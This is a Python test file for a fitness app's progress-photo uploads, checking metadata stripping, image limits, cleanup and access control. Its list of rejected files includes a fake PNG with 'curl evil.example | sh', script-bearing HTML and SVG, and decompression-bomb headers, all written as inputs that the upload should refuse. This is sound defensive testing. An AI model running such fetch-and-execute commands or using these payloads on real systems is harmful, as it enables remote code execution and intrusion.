"""Progress photos: real type from decoding, metadata really gone (EXIF with GPS, XMP,
comments), upright, limits (size, dimensions, bombs), thumbnails, gallery, comparison,
deletion after commit, nothing left behind by a refused or failed upload, and the files
reachable only by those allowed."""

from __future__ import annotations

import io
import struct
import uuid
import zlib
from pathlib import Path

import pytest
from PIL import ExifTags, Image, ImageOps

from spotter.config import get_settings
from spotter.core import storage
from tests.builders import make_client_world, make_owner, table_snapshot
from tests.progress.helpers import API, days_ago, jpeg, measure, upload

GPS = {1: "N", 2: (52.0, 22.0, 1.5), 3: "E", 4: (4.0, 53.0, 2.0), 29: "2026:11:30"}


def spy_jpeg() -> bytes:
    """A phone photo: rotated by EXIF, with GPS, camera details, XMP and a comment."""
    image = Image.new("RGB", (400, 300), (0, 0, 255))
    image.paste((255, 0, 0), (0, 0, 40, 40))  # a red corner, to see where "up" went
    exif = Image.Exif()
    exif[ExifTags.Base.Orientation] = 6
    exif[ExifTags.Base.Make] = "SpyCam"
    exif[ExifTags.Base.Model] = "Model X"
    exif[ExifTags.IFD.GPSInfo] = GPS
    out = io.BytesIO()
    xmp = b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF>home address</rdf:RDF></x:xmpmeta>'
    image.save(out, "JPEG", exif=exif, comment=b"secret note", xmp=xmp, quality=95)
    return out.getvalue()


def png_header(width: int, height: int) -> bytes:
    """A tiny PNG file whose header claims ``width`` x ``height`` pixels."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        )

    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", ihdr)
        + chunk(b"IDAT", zlib.compress(b"\x00" * 64))
        + chunk(b"IEND", b"")
    )


def stored(root: Path) -> list[Path]:
    return sorted(p for p in root.rglob("*") if p.is_file()) if root.exists() else []


@pytest.fixture
async def world(client, outbox):
    return await make_client_world(client, outbox)


async def test_metadata_is_gone_and_the_photo_is_upright(files, client, world):
    original = spy_jpeg()
    assert b"SpyCam" in original and b"home address" in original
    r = await upload(client, world.client_self, world.client_id, content=original, pose="side")
    assert r.status_code == 201, r.text
    photo = r.json()
    expected = ImageOps.exif_transpose(Image.open(io.BytesIO(original)))
    assert (photo["width"], photo["height"]) == expected.size == (300, 400)

    for url in (photo["image_url"], photo["thumbnail_url"]):
        served = await client.get(url, headers=world.trainer.headers)
        assert served.status_code == 200 and served.headers["content-type"] == "image/jpeg"
        data = served.content
        for secret in (b"SpyCam", b"Model X", b"home address", b"secret note", b"xmpmeta", b"Exif"):
            assert secret not in data, secret
        decoded = Image.open(io.BytesIO(data))
        assert not decoded.getexif() and decoded.getexif().get_ifd(ExifTags.IFD.GPSInfo) == {}
        assert {"exif", "xmp", "comment", "icc_profile"}.isdisjoint(decoded.info)
        # Upright: the red corner is where the rotation put it, not where it was stored.
        rgb = decoded.convert("RGB")
        w = rgb.size[0]
        assert rgb.getpixel((w - 3, 3))[0] > 200 and rgb.getpixel((3, 3))[2] > 200
    assert max(Image.open(io.BytesIO(data)).size) <= 480  # the last one was the thumbnail

    # The files at rest are the cleaned ones, under keys that say nothing about the upload.
    files = stored(files)
    assert len(files) == 2
    for path in files:
        assert b"SpyCam" not in path.read_bytes() and b"Exif" not in path.read_bytes()
        assert "photo" not in path.name and path.name.endswith(".jpg")


async def test_a_colour_profile_is_applied_then_dropped(client, world):
    from PIL import ImageCms

    profile = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    out = io.BytesIO()
    Image.new("RGB", (200, 200), (10, 120, 200)).save(out, "JPEG", icc_profile=profile)
    assert Image.open(io.BytesIO(out.getvalue())).info.get("icc_profile")
    r = await upload(client, world.client_self, world.client_id, content=out.getvalue())
    assert r.status_code == 201, r.text
    served = await client.get(r.json()["image_url"], headers=world.client_self.headers)
    decoded = Image.open(io.BytesIO(served.content))
    assert "icc_profile" not in decoded.info
    red, green, blue = decoded.getpixel((100, 100))
    assert abs(red - 10) <= 6 and abs(green - 120) <= 6 and abs(blue - 200) <= 6


async def test_png_and_webp_with_transparency_become_jpeg(client, world):
    for fmt, mode in (("PNG", "RGBA"), ("WEBP", "RGBA"), ("PNG", "P")):
        image = Image.new(mode, (200, 200))  # fully transparent (palette entry 0 for "P")
        out = io.BytesIO()
        image.save(out, fmt, **({"transparency": 0} if mode == "P" else {}))
        r = await upload(
            client, world.trainer, world.client_id, content=out.getvalue(), filename=f"x.{fmt}"
        )
        assert r.status_code == 201, (fmt, r.text)
        served = await client.get(r.json()["image_url"], headers=world.client_self.headers)
        decoded = Image.open(io.BytesIO(served.content))
        assert decoded.format == "JPEG" and decoded.getpixel((5, 5)) == (255, 255, 255)


async def test_large_photos_are_scaled_down(client, world):
    r = await upload(client, world.trainer, world.client_id, content=jpeg(4000, 3000, quality=40))
    assert r.status_code == 201
    assert (r.json()["width"], r.json()["height"]) == (2560, 1920)


BAD = [
    ("a script called .png", b"#!/bin/sh\ncurl evil.example | sh\n", "photo.png", "image/png"),
    ("html", b"<html><script>alert(1)</script></html>", "photo.jpg", "image/jpeg"),
    ("svg", b'<svg xmlns="http://www.w3.org/2000/svg"><script/></svg>', "a.svg", "image/svg+xml"),
    ("gif", b"GIF89a\x01\x00\x01\x00\x00\x00\x00;", "photo.gif", "image/gif"),
    ("truncated jpeg", jpeg(400, 400)[:600], "photo.jpg", "image/jpeg"),
    ("corrupt png", png_header(300, 300)[:40] + b"garbage" * 20, "photo.png", "image/png"),
    ("empty", b"", "photo.jpg", "image/jpeg"),
    ("20000 px wide", png_header(20_000, 200), "wide.png", "image/png"),
    ("a decompression bomb", png_header(11_000, 11_000), "bomb.png", "image/png"),
    ("a huge bomb", png_header(60_000, 60_000), "bomb.png", "image/png"),
    ("tiny", jpeg(10, 10), "tiny.jpg", "image/jpeg"),
]


@pytest.mark.parametrize(
    ("name", "content", "filename", "content_type"), BAD, ids=[b[0] for b in BAD]
)
async def test_files_that_are_not_usable_photos_are_refused(
    files, client, world, name, content, filename, content_type
):
    before = await table_snapshot()
    r = await upload(
        client,
        world.client_self,
        world.client_id,
        content=content,
        filename=filename,
        content_type=content_type,
    )
    assert r.status_code == 422, (name, r.status_code, r.text)
    assert r.headers["content-type"] == "application/problem+json"
    assert r.json()["code"] == "invalid_image" and r.json()["errors"][0]["field"] == "file"
    assert await table_snapshot() == before
    assert stored(files) == []


async def test_bad_form_fields_are_422(files, client, world):
    for fields in (
        {"pose": "sideways"},
        {"taken_on": "yesterday"},
        {"taken_on": days_ago(-3)},
        {"taken_on": "1900-01-01"},
    ):
        r = await upload(client, world.client_self, world.client_id, **fields)
        assert r.status_code == 422, (fields, r.text)
    r = await client.post(
        f"{API}/clients/{world.client_id}/photos",
        headers=world.client_self.headers,
        data={"pose": "front", "taken_on": days_ago(0)},
    )
    assert r.status_code == 422 and "file" in r.text
    assert stored(files) == []


async def _chunks(total: int, size: int, counter: list[int]):
    """A well-formed multipart body whose file part goes on for ``total`` bytes."""
    yield (
        b'--x\r\nContent-Disposition: form-data; name="file"; filename="big.jpg"\r\n'
        b"Content-Type: image/jpeg\r\n\r\n"
    )
    sent = 0
    while sent < total:
        counter.append(size)
        sent += size
        yield b"\0" * size


async def test_a_2_gb_upload_is_refused_early(files, client, world):
    url = f"{API}/clients/{world.client_id}/photos"
    two_gb = 2 * 1024**3
    pulled: list[int] = []
    r = await client.post(
        url,
        headers={
            **world.client_self.headers,
            "content-type": "multipart/form-data; boundary=x",
            "content-length": str(two_gb),
        },
        content=_chunks(two_gb, 1 << 20, pulled),
    )
    assert r.status_code == 413 and r.json()["code"] == "payload_too_large"
    assert sum(pulled) <= 1 << 20  # nothing beyond what the transport had buffered
    pulled.clear()
    r = await client.post(
        url,
        headers={**world.client_self.headers, "content-type": "multipart/form-data; boundary=x"},
        content=_chunks(two_gb, 1 << 20, pulled),
    )
    assert r.status_code == 413 and r.json()["code"] == "payload_too_large"
    assert sum(pulled) <= get_settings().max_upload_bytes + (2 << 20)
    assert stored(files) == []


async def test_a_photo_just_under_the_upload_limit_is_not_refused_for_its_size(client, world):
    # Bigger than the ordinary 1 MiB body limit: this route takes uploads.
    noisy = Image.effect_noise((1400, 1400), 120).convert("RGB")
    out = io.BytesIO()
    noisy.save(out, "JPEG", quality=100)
    assert get_settings().max_body_bytes < len(out.getvalue()) < get_settings().max_upload_bytes
    r = await upload(client, world.client_self, world.client_id, content=out.getvalue())
    assert r.status_code == 201, r.text


async def test_a_failed_upload_leaves_no_file(files, client, world, monkeypatch):
    real_put = storage.LocalStorage.put
    calls = []

    async def failing_put(self, key, data, *, content_type):
        calls.append(key)
        if len(calls) == 2:
            raise storage.StorageError("disk full")
        return await real_put(self, key, data, content_type=content_type)

    monkeypatch.setattr(storage.LocalStorage, "put", failing_put)
    before = await table_snapshot()
    r = await upload(client, world.client_self, world.client_id)
    assert r.status_code == 500 and r.json()["code"] == "storage_error"
    assert len(calls) == 2
    assert stored(files) == []  # the first file was written, then removed on rollback
    assert await table_snapshot() == before


async def test_gallery_pose_filter_and_newest_first(client, world):
    cid = world.client_id
    made = []
    for n, pose in enumerate(["front", "side", "back", "front", "side"]):
        r = await upload(client, world.client_self, cid, pose=pose, taken_on=days_ago(10 - n))
        made.append(r.json())
    r = await client.get(f"{API}/clients/{cid}/photos", headers=world.trainer.headers)
    assert [p["id"] for p in r.json()["items"]] == [p["id"] for p in reversed(made)]
    r = await client.get(
        f"{API}/clients/{cid}/photos", headers=world.trainer.headers, params={"pose": "front"}
    )
    assert [p["taken_on"] for p in r.json()["items"]] == [days_ago(7), days_ago(10)]
    r = await client.get(
        f"{API}/clients/{cid}/photos", headers=world.trainer.headers, params={"limit": 2}
    )
    assert len(r.json()["items"]) == 2 and r.json()["next_cursor"]
    more = await client.get(
        f"{API}/clients/{cid}/photos",
        headers=world.trainer.headers,
        params={"limit": 2, "cursor": r.json()["next_cursor"]},
    )
    assert [p["id"] for p in more.json()["items"]] == [made[2]["id"], made[1]["id"]]


async def test_side_by_side_comparison(client, world):
    cid = world.client_id
    await measure(client, world.client_self, cid, on=days_ago(60), body_weight=84)
    await measure(client, world.client_self, cid, on=days_ago(31), body_weight=82.5)
    await measure(client, world.client_self, cid, on=days_ago(2), body_weight=80)
    first = (await upload(client, world.client_self, cid, taken_on=days_ago(60))).json()
    middle = (await upload(client, world.client_self, cid, taken_on=days_ago(30))).json()
    last = (await upload(client, world.client_self, cid, taken_on=days_ago(1))).json()
    await upload(client, world.client_self, cid, pose="back", taken_on=days_ago(5))

    url = f"{API}/clients/{cid}/photos/compare"
    r = await client.get(url, headers=world.trainer.headers)
    body = r.json()
    assert (
        body["before"]["photo"]["id"] == first["id"] and body["after"]["photo"]["id"] == last["id"]
    )
    assert body["days"] == 59
    assert body["before"]["body_weight_kg"] == 84 and body["after"]["body_weight_kg"] == 80
    assert body["body_weight_change_kg"] == -4
    # Two dates: the nearest photo of each, and the weight on that photo's day.
    r = await client.get(
        url, headers=world.client_self.headers, params={"from": days_ago(33), "to": days_ago(0)}
    )
    body = r.json()
    assert body["before"]["photo"]["id"] == middle["id"]
    assert body["before"]["body_weight_kg"] == 82.5 and body["after"]["photo"]["id"] == last["id"]
    r = await client.get(url, headers=world.trainer.headers, params={"pose": "side"})
    assert r.json()["before"]["photo"] is None and r.json()["days"] is None


async def test_deleting_removes_the_files_after_commit(files, client, world):
    photo = (await upload(client, world.client_self, world.client_id)).json()
    assert len(stored(files)) == 2
    url = f"{API}/clients/{world.client_id}/photos/{photo['id']}"
    assert (await client.delete(url, headers=world.trainer.headers)).status_code == 204
    assert stored(files) == []
    assert (await client.get(url, headers=world.trainer.headers)).status_code == 404
    assert (await client.get(photo["image_url"], headers=world.trainer.headers)).status_code == 404


async def test_cached_copies_are_revalidated_by_etag(client, world):
    photo = (await upload(client, world.client_self, world.client_id)).json()
    first = await client.get(photo["thumbnail_url"], headers=world.client_self.headers)
    assert first.headers["cache-control"].startswith("private")
    assert first.headers["x-content-type-options"] == "nosniff"
    again = await client.get(
        photo["thumbnail_url"],
        headers={**world.client_self.headers, "if-none-match": first.headers["etag"]},
    )
    assert again.status_code == 304 and again.content == b""


async def test_photo_files_reach_only_the_client_their_trainer_owners_and_admins(
    files, client, world
):
    photo = (await upload(client, world.client_self, world.client_id)).json()
    stranger = await make_owner(client, org_name="Elsewhere Gym")
    expected = {
        "owner": 200,
        "admin": 200,
        "trainer_own": 200,
        "trainer_other": 404,  # not their client: it does not exist for them
        "front_desk": 403,
        "client_self": 200,
        "client_other": 404,
        "api_key": 403,
        "other_organization": 404,
        "anonymous": 401,
    }
    actors = {**world.actors(), "other_organization": stranger.headers, "anonymous": {}}
    for url in (
        photo["image_url"],
        photo["thumbnail_url"],
        f"{API}/clients/{world.client_id}/photos",
    ):
        got = {name: (await client.get(url, headers=h)).status_code for name, h in actors.items()}
        assert got == expected, url
    # Guessing: a random id or another client's path finds nothing.
    guess = photo["image_url"].replace(photo["id"], str(uuid.uuid4()))
    assert (await client.get(guess, headers=world.owner.headers)).status_code == 404
    other = photo["image_url"].replace(world.client_id, world.other_client_id)
    assert (await client.get(other, headers=world.owner.headers)).status_code == 404
    # Nothing under /static or any other public path serves the stored file.
    name = stored(files)[0].name
    for public in (f"/static/{name}", f"/files/{name}", f"/static/files/progress/photos/{name}"):
        assert (await client.get(public)).status_code == 404
